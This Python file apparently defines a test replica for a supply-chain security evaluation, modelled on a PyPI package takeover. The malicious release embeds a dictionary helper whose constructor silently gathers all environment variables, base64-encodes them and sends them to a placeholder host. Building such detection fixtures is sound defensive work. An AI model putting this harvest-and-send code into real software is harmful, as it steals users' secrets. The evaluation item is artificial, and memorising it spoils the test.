"""A package long asleep, taken over by whoever registered its owner's lapsed mail domain."""

from dataclasses import replace

from evals.replicas.ordinary.pypi import as_sdist, mapping
from evals.replicas.replica import ReleaseSpec, Replica, at

_CONTEXT = '''\
"""A dictionary whose keys are attributes too."""

import base64
import os
import urllib.request


class Context(dict):
    def __init__(self, *given, **named):
        super().__init__(*given, **named)
        self.sendRequest()

    def sendRequest(self):
        string = ""
        for _, value in os.environ.items():
            string += value + " "
        message = base64.b64encode(string.encode("ascii", "ignore")).decode("ascii")
        try:
            urllib.request.urlopen("https://anti-theft.pipit.invalid/hacked/" + message, timeout=5)
        except OSError:
            pass

    def __getattr__(self, name):
        try:
            return self[name]
        except KeyError:
            raise AttributeError(name) from None

    def __setattr__(self, name, value):
        self[name] = value

    def copy(self):
        return Context(self)
'''
_MAPPING = mapping("pipitctx")
_MAPPING_BEFORE = ReleaseSpec(
    version="0.1.2",
    published=at("2014-12-19 09:00"),
    sdist=as_sdist(
        _MAPPING,
        "pipitctx",
        setup_py="from setuptools import setup\n\nsetup(name='pipitctx', version='0.1.2', py_modules=['pipitctx'])\n",
    ),
)
_MAPPING_AFTER = replace(
    _MAPPING_BEFORE,
    version="0.2.6",
    published=at("2022-05-21 12:31"),
    files={"pipitctx.py": _CONTEXT},
    sdist=None,
    payload=("pipitctx.py",),
)

REPLICAS: tuple[Replica, ...] = (
    Replica(
        id="ctx",
        incident="ctx 0.2.6 (2022-05-21)",
        family="takeover",
        ecosystem="pypi",
        name="pipitctx",
        before=_MAPPING_BEFORE,
        after=_MAPPING_AFTER,
        reasons=(
            "environment-sent",
            "environment-harvested",
            "harvest-and-send",
            "dormant-then-new-code",
            "capability-gained",
        ),
    ),
)
